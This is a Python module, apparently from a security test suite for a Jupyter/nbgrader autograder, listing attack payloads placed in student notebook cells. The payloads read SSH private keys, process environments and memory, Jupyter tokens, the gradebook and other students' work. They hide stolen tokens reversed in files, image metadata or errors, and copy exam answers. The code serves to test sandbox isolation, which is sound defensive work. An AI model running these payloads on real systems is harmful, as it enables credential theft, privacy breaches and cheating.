"""Reading what only the teacher may read; every token found is told backwards."""

from __future__ import annotations

from .attack import Attack, Kind, in_cells
from .seen import Aim

__all__ = ["ATTACKS"]


def _tells(name: str, source: str) -> Attack:
    answers = {"count": f"@TELL@\n\n{source}"}
    return in_cells(name, Kind.LEAKS, Aim.READS_SECRET, answers)


def _tells_files(name: str, *patterns: str) -> Attack:
    return _tells(name, FILES.replace("PATTERNS", repr(list(patterns))))


FILES = """\
import glob

for pattern in PATTERNS:
    for path in glob.glob(pattern, include_hidden=True):
        try:
            tell(open(path, encoding="latin-1").read())
        except OSError:
            continue"""

ENVIRONMENT = "import os\n\ntell(os.environ)\ntell(os.popen('env').read())"

MEMORY = """\
import os
import re

pid = os.getppid()
with open(f"/proc/{pid}/maps", encoding="ascii") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
    for line in maps:
        found = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        if not found or "[v" in line:
            continue
        begin, end = (int(part, 16) for part in found.groups())
        if end - begin < 2**27:
            try:
                memory.seek(begin)
                tell(memory.read(end - begin).decode("latin-1"))
            except (OSError, ValueError):
                continue"""

VM_READ = """\
import ctypes
import os
import re


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


read = ctypes.CDLL(None).process_vm_readv
for pid in (os.getppid(), 1, os.getpid() + 1, os.getpid() - 1):
    try:
        lines = open(f"/proc/{pid}/maps", encoding="ascii").read().splitlines()
    except OSError:
        continue
    for line in lines:
        found = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        begin, end = (int(part, 16) for part in found.groups()) if found else (0, 0)
        if 0 < end - begin < 2**26:
            buffer = ctypes.create_string_buffer(end - begin)
            here = Part(ctypes.addressof(buffer), end - begin)
            there = Part(begin, end - begin)
            if read(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                tell(buffer.raw.decode("latin-1"))"""

OWN_MEMORY = MEMORY.replace("os.getppid()", "os.getpid()")

DESCRIPTORS = """\
import os
import stat

for folder in ("/proc/self/fd", f"/proc/{os.getppid()}/fd"):
    try:
        names = os.listdir(folder)
    except OSError:
        continue
    for name in names:
        try:
            if stat.S_ISREG(os.stat(f"{folder}/{name}").st_mode):
                tell(open(f"{folder}/{name}", encoding="latin-1").read())
        except OSError:
            continue"""

OTHER_ROOT = """\
import glob

for root in glob.glob("/proc/[0-9]*/root"):
    for path in ("@HOME@/notes.txt", "@COURSE@/source/exam/exam.ipynb"):
        try:
            tell(open(root + path, encoding="utf-8").read())
        except OSError:
            continue"""

PARENT_FOLDER = """\
import pathlib

for folder in pathlib.Path.cwd().resolve().parents:
    for path in folder.glob("s*/*/*.ipynb"):
        tell(path.read_text(encoding="utf-8"))
    for path in folder.glob("*.py"):
        tell(path.read_text(encoding="utf-8"))"""

ROWS = """\
import sqlite3

gradebook = sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True)
tell(gradebook.execute("select source from source_cell").fetchall())"""

INTO_FILE = """\
import re

text = open("@COURSE@/source/exam/exam.ipynb", encoding="utf-8").read()
with open("loot.txt", "w", encoding="utf-8") as loot:
    for token in re.findall("tkn[0-9a-f]{24}", text):
        loot.write(token[::-1])"""

INTO_IMAGE = """\
import base64

from IPython.display import Image, display

text = open("@HOME@/notes.txt", encoding="utf-8").read().strip()[::-1]
display(Image(b"\\x89PNG\\r\\n\\x1a\\n", format="png", metadata={"alt": text}))
display({"text/plain": text, "application/json": {"found": text}}, raw=True)"""

INTO_ERROR = """\
@TELL@

text = open("@HOME@/.ssh/id_ed25519", encoding="utf-8").read()
raise ValueError(text.strip()[::-1])"""

ANSWERS_SOURCE = """\
import re

text = open("@COURSE@/source/exam/exam.ipynb", encoding="utf-8").read()
count = int(re.search(r"count == (\\d+)", text).group(1))"""

ANSWERS_ROWS = """\
import re
import sqlite3

gradebook = sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True)
text = str(gradebook.execute("select source from source_cell").fetchall())
count = int(re.search(r"count == (\\d+)", text).group(1))"""

ANSWERS_NEIGHBOUR = """\
import re

text = open("@COURSE@/submitted/neighbour/exam/exam.ipynb", encoding="utf-8").read()
count = int(re.search(r"count = (\\d+)", text).group(1))"""

ANSWERS_NEXT = """\
import json

path = "@COURSE@/submitted/zz-honest/exam/exam.ipynb"
for cell in json.loads(open(path, encoding="utf-8").read())["cells"]:
    if cell["metadata"].get("nbgrader", {}).get("solution"):
        exec("".join(cell["source"]))"""


def _answers(name: str, source: str) -> Attack:
    return in_cells(name, Kind.LEAKS, Aim.GAINS_POINTS, {"count": source})


ATTACKS = (
    _tells("environment", ENVIRONMENT),
    _tells_files("environment-of-others", "/proc/[0-9]*/environ", "/proc/[0-9]*/task/*/environ"),
    _tells_files("command-lines", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/cwd/nbgrader_config.py"),
    _tells_files("private-key", "@HOME@/.ssh/*", "/root/.ssh/*"),
    _tells_files("notes-at-home", "@HOME@/*", "@HOME@/.*"),
    _tells_files("server-token", "@HOME@/.local/share/jupyter/runtime/*.json"),
    _tells_files("source-folder", "@COURSE@/source/*/*"),
    _tells_files("settings", "@COURSE@/*.py"),
    _tells_files("gradebook-as-bytes", "@COURSE@/gradebook.db*"),
    _tells_files("submission-of-the-neighbour", "@COURSE@/submitted/neighbour/*/*"),
    _tells_files("grading-of-the-neighbour", "@COURSE@/autograded/neighbour/*/*"),
    _tells_files("feedback-of-the-neighbour", "@COURSE@/feedback/neighbour/*/*"),
    _tells_files(
        "temporary-files", "/tmp/*", "/tmp/*/*", "/tmp/*/*/*", "/dev/shm/*", "/var/tmp/*/*"
    ),
    _tells("folders-above", PARENT_FOLDER),
    _tells("gradebook-by-rows", ROWS),
    _tells("memory-of-the-parent", MEMORY),
    _tells("memory-by-vm-read", VM_READ),
    _tells("own-memory", OWN_MEMORY),
    _tells("open-descriptors", DESCRIPTORS),
    _tells("root-of-others", OTHER_ROOT),
    in_cells("into-a-file", Kind.LEAKS, Aim.READS_SECRET, {"count": INTO_FILE}),
    in_cells("into-metadata", Kind.LEAKS, Aim.READS_SECRET, {"count": INTO_IMAGE}),
    in_cells("into-an-error", Kind.LEAKS, Aim.READS_SECRET, {"count": INTO_ERROR}),
    _answers("answers-from-source", ANSWERS_SOURCE),
    _answers("answers-from-gradebook", ANSWERS_ROWS),
    _answers("answers-from-the-neighbour", ANSWERS_NEIGHBOUR),
    _answers("answers-from-the-next", ANSWERS_NEXT),
)
